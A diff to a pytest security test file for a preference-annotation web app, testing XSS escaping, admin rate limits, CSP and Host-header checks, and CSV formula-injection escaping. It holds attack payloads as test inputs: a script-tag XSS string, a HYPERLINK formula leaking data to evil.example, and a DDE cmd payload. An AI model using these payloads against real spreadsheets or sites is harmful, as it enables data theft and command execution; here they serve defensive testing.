@@ -8,27 +8,37 @@ embedded model in Chromium.
 from __future__ import annotations
 
 import base64
+import hashlib
+import hmac
+import io
 import json
 import re
 from datetime import timedelta
 
+import pandas as pd
 import pytest
 import schemathesis
 from hypothesis import HealthCheck, given, settings
 from schemathesis.checks import not_a_server_error
 from fastapi.testclient import TestClient
+from typer.testing import CliRunner
 from sqlalchemy import select, update
 from sqlalchemy.orm import Session
 
+from pluralign.cli.app import app as cli
 from pluralign.collect.app import create_app
+from pluralign.collect.export import export_table, write_export
 from pluralign.collect.store import Store
 from pluralign.collect.study import load_study
 from pluralign.data import load_prompts
 from pluralign.data.collection import CandidateSet, Choice, now
+from pluralign.data.tables import csv_text
 
 from .conftest import write_study
 
 PAYLOAD = "<script>window.pwned = 1</script><b>bold</b>"
+PASSWORD = "s3cret-enough"
+ADMIN = ("admin", PASSWORD)
 
 
 def serve_study(tmp_path, **sections) -> tuple[Store, TestClient, list[str]]:
@@ -47,7 +57,12 @@ def serve_study(tmp_path, **sections) -> tuple[Store, TestClient, list[str]]:
         person = store.person(token).id
         store.consent(person)
         store.save_survey(person, {})
-    return store, TestClient(create_app(store, "s3cret", requests_per_minute=60)), tokens
+    return store, client_of(create_app(store, PASSWORD, requests_per_minute=60)), tokens
+
+
+def client_of(app) -> TestClient:
+    """A client that reaches ``app`` as a browser on the same machine would (Host: 127.0.0.1)."""
+    return TestClient(app, base_url="http://127.0.0.1")
 
 
 @pytest.fixture
@@ -59,14 +74,21 @@ def form_fields(html: str) -> dict[str, str]:
     return dict(re.findall(r'name="(\w+)" value="([^"]*)"', html))
 
 
+def api_choice(task: dict, nonce: str, **fields) -> dict:
+    """A JSON API choice on ``task`` (as GET .../task gave it): its set, when it was shown and the form token."""
+    return {"nonce": nonce, "set_id": task["set_id"], "shown_at": task["shown_at"], "form": task["form"], "position": 0,
+            **fields}
+
+
 def test_another_persons_token_cannot_read_or_answer_your_task(served):
     store, client, (alice, bob) = served
     alices = client.get(f"/api/a/{alice}/task").json()
     bobs = client.get(f"/api/a/{bob}/task").json()
     assert alices["set_id"] != bobs["set_id"]
-    taken = client.post(f"/api/a/{bob}/choice", json={"nonce": "bob-nonce-1", "set_id": alices["set_id"], "position": 0})
-    assert taken.status_code == 409
-    assert client.get(f"/api/a/{alice}/task").json() == alices  # untouched
+    taken = client.post(f"/api/a/{bob}/choice", json=api_choice(alices, "bob-nonce-1"))
+    assert taken.status_code == 403  # the task's form token is Alice's
+    again = client.get(f"/api/a/{alice}/task").json()
+    assert (again["state"], again["set_id"], again["finished"]) == ("task", alices["set_id"], 0)  # untouched
     assert client.get("/a/not-a-token").status_code == 404 and client.get("/api/a/not-a-token/task").status_code == 404
 
 
@@ -75,8 +97,8 @@ def test_admin_pages_need_the_password(served):
     for path in ("/admin", "/api/admin/progress", "/admin/export.csv"):
         assert client.get(path).status_code == 401
         assert client.get(path, auth=("admin", "wrong")).status_code == 401
-    assert client.get("/admin", auth=("anyone", "s3cret")).status_code == 200
-    progress = client.get("/api/admin/progress", auth=("anyone", "s3cret")).json()  # nothing chosen: nulls, not NaN
+    assert client.get("/admin", auth=ADMIN).status_code == 200
+    progress = client.get("/api/admin/progress", auth=ADMIN).json()  # nothing chosen: nulls, not NaN
     assert progress["agreement"] is None and progress["answered_sets"] == 0
     assert progress["groups"] == [{"label": "(no label)", "people": 2, "consented": 2, "surveyed": 2, "finished": 0,
                                    "choices": 0, "median_seconds": None}]
@@ -110,7 +132,7 @@ def test_a_ranking_study_asks_for_every_answer_ranked_on_the_page_and_in_the_api
                        follow_redirects=False).status_code == 303
     task = client.get(f"/api/a/{bob}/task").json()
     assert task["rank"] is True
-    choice = {"nonce": "bob-ranks-1", "set_id": task["set_id"], "position": 0}
+    choice = api_choice(task, "bob-ranks-1")
     unranked = client.post(f"/api/a/{bob}/choice", json=choice)
     assert unranked.status_code == 422 and "ranking" in unranked.text
     assert client.post(f"/api/a/{bob}/choice", json={**choice, "ranking": [0, 2, 1]}).status_code == 200
@@ -170,16 +192,15 @@ def test_html_in_prompts_answers_and_reasons_shows_as_text(served):
     assert "<script>window.pwned" not in page and "&lt;script&gt;window.pwned = 1&lt;/script&gt;&lt;b&gt;bold" in page
     fields = {**form_fields(page), "position": "0", "rationale": PAYLOAD}
     client.post(f"/a/{alice}/choice", data=fields)
-    admin = client.get("/admin", auth=("admin", "s3cret")).text
+    admin = client.get("/admin", auth=ADMIN).text
     assert "<script>window.pwned" not in admin and admin.count("&lt;script&gt;window.pwned = 1&lt;/script&gt;") == 1
 
 
 def test_input_lengths_are_bounded_and_requests_per_token_limited(served):
     _, client, (alice, bob) = served
     task = client.get(f"/api/a/{alice}/task").json()
-    too_long = client.post(f"/api/a/{alice}/choice", json={"nonce": "long-nonce-1", "set_id": task["set_id"],
-                                                          "position": 0, "rationale": "x" * 2001})
-    assert too_long.status_code == 422
+    too_long = client.post(f"/api/a/{alice}/choice", json=api_choice(task, "long-nonce-1", rationale="x" * 2001))
+    assert too_long.status_code == 422 and "rationale" in too_long.text
     codes = [client.get(f"/api/a/{alice}/task").status_code for _ in range(70)]
     assert codes.count(429) >= 10 and set(codes) == {200, 429}
     assert client.get(f"/api/a/{bob}/task").status_code == 200  # another person's limit is their own
@@ -189,7 +210,7 @@ def test_no_request_the_schema_allows_makes_a_server_error(served):
     """Every operation of the OpenAPI schema, 40 generated requests each, with a real invite token and the admin
     password (so bodies reach the code behind them, not only the 404 of an unknown token)."""
     store, _, (token, _) = served
-    app = create_app(store, "s3cret", requests_per_minute=100_000)
+    app = create_app(store, PASSWORD, requests_per_minute=100_000, hosts=["testserver"])  # schemathesis's Host
     schema = schemathesis.openapi.from_asgi("/openapi.json", app)
     for result in schema.get_all_operations():
         operation = result.ok()
@@ -199,7 +220,115 @@ def test_no_request_the_schema_allows_makes_a_server_error(served):
         def check(case) -> None:
             if "token" in (case.path_parameters or {}):
                 case.path_parameters["token"] = token
-            case.headers = {**(case.headers or {}), "Authorization": "Basic " + base64.b64encode(b"a:s3cret").decode()}
+            basic = base64.b64encode(f"admin:{PASSWORD}".encode()).decode()
+            case.headers = {**(case.headers or {}), "Authorization": f"Basic {basic}"}
             case.call_and_validate(checks=[not_a_server_error])
 
         check()
+
+
+FORMULAS = {"rationale": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "country": "=1+2",
+            "languages": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def test_formulas_that_people_write_reach_the_csv_exports_as_text_and_parquet_as_written(served, tmp_path):
+    store, client, (alice, _) = served
+    assert client.post(f"/api/a/{alice}/survey", json={"country": FORMULAS["country"],
+                                                       "languages": FORMULAS["languages"]}).status_code == 200
+    task = client.get(f"/api/a/{alice}/task").json()
+    assert client.post(f"/api/a/{alice}/choice", json=api_choice(task, "alice-formula",
+                                                                 rationale=FORMULAS["rationale"])).status_code == 200
+    def downloaded(shape: str) -> pd.DataFrame:
+        return pd.read_csv(io.StringIO(client.get(f"/admin/export.csv?shape={shape}", auth=ADMIN).text), dtype=str)
+    people = downloaded("annotators")
+    assert list(people["country"].dropna()) == ["'=1+2"]
+    assert list(people["languages"].dropna()) == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
+    assert list(downloaded("comparisons")["feedback"].dropna()) == ["'" + FORMULAS["rationale"]]
+    assert list(downloaded("ca")["annotator_country"].dropna()) == ["'=1+2"]
+    write_export(export_table(store.study, "comparisons"), tmp_path / "choices.parquet")  # `collect export`
+    assert list(pd.read_parquet(tmp_path / "choices.parquet")["feedback"].dropna()) == [FORMULAS["rationale"]]
+
+
+def test_csv_text_quotes_every_cell_that_starts_like_a_formula_and_leaves_numbers_and_json_alone():
+    table = pd.DataFrame({"text": ["=1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "a=b", None],
+                          "number": [-1, 2, 3, 4, 5, 6, 7, 8, 9], "turns": [[{"role": "user"}]] * 9})
+    back = pd.read_csv(io.StringIO(csv_text(table)), dtype=str, keep_default_na=False)
+    assert list(back["text"]) == ["'=1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "plain", "a=b", ""]
+    assert back["number"][0] == "-1" and json.loads(back["turns"][0]) == [{"role": "user"}]
+
+
+def test_wrong_admin_passwords_are_limited_per_client_and_the_user_name_counts(served):
+    _, client, _ = served
+    assert client.get("/admin", auth=("anyone", PASSWORD)).status_code == 401
+    codes = [client.get("/admin", auth=("admin", f"guess-{i}")).status_code for i in range(30)]
+    assert codes == [401] * 9 + [429] * 21  # the wrong user name above was the first of ten
+    locked = client.get("/admin", auth=ADMIN)
+    assert locked.status_code == 429 and 0 < int(locked.headers["Retry-After"]) <= 60
+    other = TestClient(client.app, base_url="http://127.0.0.1", client=("10.0.0.2", 50000))
+    assert other.get("/admin", auth=ADMIN).status_code == 200  # another address has its own count
+
+
+@pytest.mark.parametrize("password", ["", "short"])
+def test_an_empty_or_short_admin_password_is_refused_in_one_line_before_any_model_loads(tmp_path, password):
+    study = write_study(tmp_path, str(tmp_path / "study.db"), candidates={"models": ["hf:no/such-model"]})
+    result = CliRunner().invoke(cli, ["collect", "serve", str(study), "--password", password])
+    assert result.exit_code == 2 and result.output.count("\n") == 1
+    assert "the admin password needs at least 12 characters" in result.output
+
+
+def test_every_response_forbids_framing_sniffing_and_referrers_and_pages_run_only_their_own_script(served):
+    _, client, (alice, _) = served
+    page = client.get(f"/a/{alice}")
+    policy = page.headers["Content-Security-Policy"]
+    nonce = re.search(r"'nonce-([\w-]+)'", policy).group(1)
+    assert f'<script nonce="{nonce}">' in page.text and f'<style nonce="{nonce}">' in page.text
+    assert "frame-ancestors 'none'" in policy and f"script-src 'nonce-{nonce}'" in policy and "unsafe" not in policy
+    assert nonce not in client.get(f"/a/{alice}").headers["Content-Security-Policy"]  # a new one each time
+    for response in (page, client.get(f"/api/a/{alice}/task"), client.get("/admin"), client.get("/a/unknown")):
+        assert response.headers["X-Frame-Options"] == "DENY" and response.headers["X-Content-Type-Options"] == "nosniff"
+        assert response.headers["Referrer-Policy"] == "no-referrer"
+        assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]
+
+
+def test_a_request_naming_another_host_is_refused_unless_the_server_is_told_that_name(served):
+    store, client, _ = served
+    for host in ("127.0.0.1:8800", "localhost", "[::1]:8800"):
+        assert client.get("/openapi.json", headers={"Host": host}).status_code == 200
+    assert client.get("/openapi.json", headers={"Host": "evil.example"}).status_code == 400  # DNS rebinding
+    told = client_of(create_app(store, PASSWORD, hosts=["study.example.org"]))
+    assert told.get("/openapi.json", headers={"Host": "study.example.org"}).status_code == 200
+
+
+def test_the_survey_is_locked_once_a_choice_is_made_on_the_page_and_in_the_api(served):
+    store, client, (alice, _) = served
+    assert client.post(f"/api/a/{alice}/survey", json={"political": "Left"}).status_code == 200
+    task = client.get(f"/api/a/{alice}/task").json()
+    assert client.post(f"/api/a/{alice}/choice", json=api_choice(task, "alice-first")).status_code == 200
+    moved = client.post(f"/api/a/{alice}/survey", json={"political": "Right"})
+    assert moved.status_code == 409 and "cannot change" in moved.text
+    form = hmac.new(store.secret(), f"{store.person(alice).id}:survey".encode(), hashlib.sha256).hexdigest()
+    assert client.post(f"/a/{alice}/survey", data={"form": form, "political": "Right"}).status_code == 409
+    assert store.person(alice).survey == {"political": "Left"}
+
+
+def test_survey_answers_must_be_the_studys_questions_and_options_and_bodies_are_bounded(served):
+    store, client, (alice, _) = served
+    assert client.post(f"/api/a/{alice}/survey", json={"political": "Left", "country": " France "}).status_code == 200
+    for wrong, said in (({f"junk{i}": "" for i in range(50)}, "no question 'junk0'"),
+                        ({"political": "Far out"}, "not an option of political")):
+        refused = client.post(f"/api/a/{alice}/survey", json=wrong)
+        assert refused.status_code == 422 and said in refused.text
+    huge = client.post(f"/api/a/{alice}/survey", json={f"junk{i}": "" for i in range(10_000)})
+    assert huge.status_code == 413
+    assert store.person(alice).survey == {"political": "Left", "country": "France"}
+
+
+def test_the_seconds_a_choice_took_are_measured_by_the_server_not_told_by_the_client(served):
+    store, client, (alice, bob) = served
+    task = client.get(f"/api/a/{alice}/task").json()
+    assert client.post(f"/api/a/{alice}/choice", json=api_choice(task, "alice-slow", seconds=86400)).status_code == 200
+    task = client.get(f"/api/a/{bob}/task").json()
+    earlier = {**task, "shown_at": f"{float(task['shown_at']) - 3600:.3f}"}  # a shown_at the server did not give
+    assert client.post(f"/api/a/{bob}/choice", json=api_choice(earlier, "bob-early")).status_code == 403
+    with Session(store.engine) as session:
+        assert [0 <= s < 30 for s in session.scalars(select(Choice.seconds))] == [True]
